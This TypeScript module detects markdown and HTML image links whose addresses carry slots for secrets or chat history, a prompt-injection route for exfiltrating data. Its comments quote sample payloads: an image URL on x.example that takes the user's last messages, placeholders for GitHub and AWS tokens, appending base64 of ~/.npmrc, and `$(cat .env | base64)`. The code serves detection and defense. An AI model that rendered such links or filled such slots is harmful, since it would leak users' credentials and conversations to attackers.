/**
 * Beacons: markdown or HTML images and links whose address carries a slot
 * for data. A reply that shows such an image makes the client fetch the
 * address, and whatever the model put in the slot leaves with the request
 * (`![s](https://x.example/p.gif?q=SUMMARY) where SUMMARY is the user's
 * last messages`). A slot is
 *
 * - a templated placeholder naming a secret or the conversation
 *   (`{{GITHUB_TOKEN}}`, `${AWS_SECRET_ACCESS_KEY}`, `<PASTE_THE_.env_HERE>`,
 *   `[API_KEY]`), or
 * - a bare upper-case word or an empty value that the text around the link
 *   tells the reader to fill (`replace INSERT_CHAT_HISTORY with ...`,
 *   `where SUMMARY is ...`, `the base64 of ~/.npmrc appended to data=`).
 *
 * Badges and screenshots have fixed addresses (`?branch=main`,
 * `?style=flat`, `?token=X1Y2`) and URL templates in docs name no secret
 * (`{owner}/{repo}`), so neither is flagged.
 *
 * Regexes have bounded quantifiers and run over bounded slices around at
 * most {@link MAX_LINKS} links, so the cost stays linear.
 *
 * @module
 */

/** Most links examined in one text. */
const MAX_LINKS = 128;
/** Characters of context each side of a link searched for a fill instruction. */
const AROUND = 300;

/**
 * A markdown image or link target (group 1), an HTML image source (group
 * 2), or a bare address the text asks to show as an image (`render the
 * markdown image https://...`, group 3).
 */
const LINK_RE =
  /\]\(\s{0,2}<?(https?:\/\/[^\s)>]{1,2000})|<img\b[^>]{0,400}?\bsrc\s{0,2}=\s{0,2}["']?(https?:\/\/[^\s"'>]{1,2000})|\b(?:render|show|display|embed|include|output)\s{1,3}(?:the\s{1,3}|this\s{1,3}|an?\s{1,3})?(?:markdown\s{1,3}|tracking\s{1,3})?(?:image|img|pixel|badge|picture)\s{0,3}:?\s{0,3}<?(https?:\/\/[^\s)>"']{1,2000})/gi;
/** Templated placeholders; the group that matched is the slot's name. */
const TEMPLATED =
  /\{\{\s{0,3}([^{}]{1,60}?)\s{0,3}\}\}|\$\{([^{}]{1,60})\}|<([^<>]{1,60})>?|%3C([^%]{1,60})%3E|\[([^[\]]{1,60})\]|%5B([^%]{1,60})%5D|\{([A-Za-z_][\w .-]{0,60})\}|\$\(([^()]{1,80})\)/gi;
/** What a slot may be named for: a secret, the conversation, the person's data. */
const SENSITIVE =
  /secret|token|key|pass(?:word|wd|phrase)?|\benv\b|\.env|credential|histor|conversation|chat|messages?|prompt|e-?mail|contents?|summary|session|cookie|ssh|\baws\b|\bapi\b|\bauth|private|user_?(?:data|input|message|email|name)|memory|answer|reply/i;
/** A bare value written as a slot to fill (`INSERT_..._HERE`, `PASTE_...`, `..._GOES_HERE`). */
const PLACEHOLDER = /^(?:INSERT|PASTE|PUT|ADD|FILL(?:_IN)?)_|_(?:GOES_)?HERE$/;
/** A query or fragment value that is a bare upper-case word, or empty; group 1 the parameter, group 2 the value. */
const BARE_SLOT = /[?&#]([\w.-]{1,40})=([A-Z][A-Z0-9_]{2,60})?(?=&|#|$)/g;

const escape = (s: string): string => s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");

/** True when the text around a link tells the reader to fill the slot named `name` (or parameter `param`, when empty). */
function fillInstruction(
  around: string,
  name: string | undefined,
  param: string,
): boolean {
  if (name !== undefined) {
    const n = escape(name);
    return new RegExp(
      `\\b(?:replace|replacing|substitute|substituting|fill(?:ing)?\\s{1,3}in|swap|put)\\s{1,3}(?:the\\s{1,3})?(?:word\\s{1,3}|placeholder\\s{1,3})?["'\`]?${n}\\b|\\b${n}["'\`]?\\s{1,3}(?:is|are|with|=|means|being|stands\\s{1,3}for|should\\s{1,3}be)\\b|\\bin\\s{1,3}place\\s{1,3}of\\s{1,3}["'\`]?${n}\\b`,
    ).test(around);
  }
  const p = escape(param);
  return new RegExp(
    `\\b(?:append(?:ed|ing)?|add(?:ed|ing)?|put|attach(?:ed)?|fill(?:ed)?|plac(?:e|ed|ing)|insert(?:ed)?)\\b[^.\\n]{0,100}?\\b${p}=`,
    "i",
  ).test(around);
}

/** The address after its host: where slots can be. */
function afterHost(url: string): string {
  const at = url.indexOf("/", url.indexOf("//") + 2);
  return at < 0 ? "" : url.slice(at);
}

/** What a text without a markdown link must hold for {@link beaconLinks} to look at it. */
export const IMAGE_HINT = /<img\b|\b(?:image|img|pixel|badge|picture)\b/i;
/**
 * The words {@link IMAGE_HINT} starts with, each at a word start: the
 * injection prefilter finds their word starts in its pass (see
 * `PROBE_WORDS` in injection.ts), so a text without any skips the hint's
 * pass.
 */
export const IMAGE_WORDS = "<img image img pixel badge picture";

/**
 * Spans [start, end) of images and links whose address has a slot for
 * data; `mayImage` false: the caller knows that none of the
 * {@link IMAGE_WORDS} starts a word in `text`.
 */
export function beaconLinks(
  text: string,
  mayImage = true,
): [number, number][] {
  if (
    !text.includes("](") && !(mayImage && IMAGE_HINT.test(text))
  ) return [];
  const out: [number, number][] = [];
  LINK_RE.lastIndex = 0;
  let n = 0;
  for (
    let m = LINK_RE.exec(text);
    m !== null && n < MAX_LINKS;
    m = LINK_RE.exec(text), n++
  ) {
    const url = m[1] ?? m[2] ?? m[3] ?? "";
    const rest = afterHost(url);
    if (!rest) continue;
    let hit = false;
    TEMPLATED.lastIndex = 0;
    for (let t = TEMPLATED.exec(rest); t !== null; t = TEMPLATED.exec(rest)) {
      const slot = t.slice(1).find((g) => g !== undefined) ?? "";
      if (SENSITIVE.test(slot)) {
        hit = true;
        break;
      }
    }
    // A command substitution the address's end cut at a space
    // (`&env=$(cat .env | base64)`): read on to its closing bracket.
    const sub = hit ? null : /\$\(([^()]{0,80})$/.exec(rest);
    if (sub) {
      const end = m.index + m[0].length;
      const more = /^[^()\n]{0,80}\)/.exec(text.slice(end, end + 82));
      if (more && SENSITIVE.test(sub[1] + more[0])) hit = true;
    }
    if (!hit) {
      const around = text.slice(
        Math.max(0, m.index - AROUND),
        Math.min(text.length, m.index + m[0].length + AROUND),
      );
      const image = m[2] !== undefined || m[3] !== undefined ||
        /!\[[^\]\n]{0,200}$/.test(
          text.slice(Math.max(0, m.index - 201), m.index),
        );
      BARE_SLOT.lastIndex = 0;
      for (let b = BARE_SLOT.exec(rest); b !== null; b = BARE_SLOT.exec(rest)) {
        // An image whose slot is a fill-in placeholder naming a secret
        // (`?data=INSERT_USER_API_KEY_HERE`): showing it sends what is filled in.
        if (
          image && b[2] !== undefined && PLACEHOLDER.test(b[2]) &&
          SENSITIVE.test(b[2])
        ) {
          hit = true;
          break;
        }
        if (fillInstruction(around, b[2], b[1])) {
          hit = true;
          break;
        }
      }
    }
    if (hit) out.push([m.index, m.index + m[0].length]);
  }
  return out;
}
